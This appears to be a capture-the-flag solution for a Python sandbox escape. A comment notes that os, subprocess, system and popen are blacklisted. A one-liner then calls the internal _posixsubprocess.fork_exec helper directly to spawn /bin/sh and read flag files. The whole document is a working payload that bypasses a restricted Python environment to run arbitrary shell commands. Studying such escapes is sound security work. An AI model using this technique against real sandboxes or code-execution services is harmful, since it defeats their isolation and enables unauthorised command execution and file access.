# restriction: os/subprocess/system/popen blacklisted; idea: call the C helper _posixsubprocess.fork_exec directly
__import__('_posixsubprocess').fork_exec([b'/bin/sh',b'-c',b'cat /flag*'],[b'/bin/sh'],True,(),None,None,-1,-1,-1,-1,-1,-1,*__import__('posix').pipe(),False,False,-1,None,None,None,-1,None,False)
